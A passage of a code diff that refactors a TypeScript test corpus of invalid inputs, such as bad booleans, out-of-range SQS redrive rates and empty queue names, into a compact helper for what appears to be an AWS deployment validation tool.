-  { what: 'on for a boolean', input: Input.ImageNoReboot, raw: { 'image-no-reboot': 'on' } },
-  { what: 'no for a boolean', input: Input.CheckServices, raw: { 'check-services': 'no' } },
-  { what: 'preflight with no queue at all', input: Input.QueueName, raw: { 'queue-name': '' } },
+  bad('no mode', Input.Mode, ''),
+  bad('an unknown checkpoint', Input.Checkpoint, '2h'),
+  bad('yes for a boolean', Input.SsmCheck, 'yes'),
+  bad('1 for a boolean', Input.AllowInconclusive, '1'),
+  bad('on for a boolean', Input.ImageNoReboot, 'on'),
+  bad('no for a boolean', Input.CheckServices, 'no'),
+  bad('preflight with no queue at all', Input.QueueName, ''),
   // redrive: the move task is not undone by a later step, so every bad value stops it before AWS
-  { what: 'redrive rate 0', input: Input.RedriveRate, raw: { mode: 'redrive', 'redrive-rate': '0' } },
-  {
-    what: 'redrive rate over the 500 SQS allows',
-    input: Input.RedriveRate,
-    raw: { mode: 'redrive', 'redrive-rate': '501' },
-  },
-  {
-    what: 'redrive rate as a fraction',
-    input: Input.RedriveRate,
-    raw: { mode: 'redrive', 'redrive-rate': '2.5' },
-  },
-  { what: 'redrive sample 0', input: Input.RedriveSample, raw: { mode: 'redrive', 'redrive-sample': '0' } },
-  {
-    what: 'redrive sample over 1,000',
-    input: Input.RedriveSample,
-    raw: { mode: 'redrive', 'redrive-sample': '1001' },
-  },
-  {
-    what: 'redrive force as yes',
-    input: Input.RedriveForce,
-    raw: { mode: 'redrive', 'redrive-force': 'yes' },
-  },
+  bad('redrive rate 0', Input.RedriveRate, '0', { mode: 'redrive' }),
+  bad('redrive rate over the 500 SQS allows', Input.RedriveRate, '501', { mode: 'redrive' }),
+  bad('redrive rate as a fraction', Input.RedriveRate, '2.5', { mode: 'redrive' }),
+  bad('redrive sample 0', Input.RedriveSample, '0', { mode: 'redrive' }),
+  bad('redrive sample over 1,000', Input.RedriveSample, '1001', { mode: 'redrive' }),
+  bad('redrive force as yes', Input.RedriveForce, 'yes', { mode: 'redrive' }),
   {
     what: 'redrive from a DLQ that is not the queue’s',
     input: Input.DlqName,
@@ -628,11 +382,7 @@ export const CORPUS: Case[] = [
     input: Input.Record,
     raw: { mode: 'redrive', record: record(), 'deployment-id': 'dep-someone-else-2' },
   },
-  {
-    what: 'redrive with no queue at all',
-    input: Input.QueueName,
-    raw: { mode: 'redrive', 'queue-name': '' },
-  },
+  bad('redrive with no queue at all', Input.QueueName, '', { mode: 'redrive' }),
 ];
 
 const BASE: RawInputs = { mode: 'preflight', region: 'ap-northeast-1', 'queue-name': QUEUE };
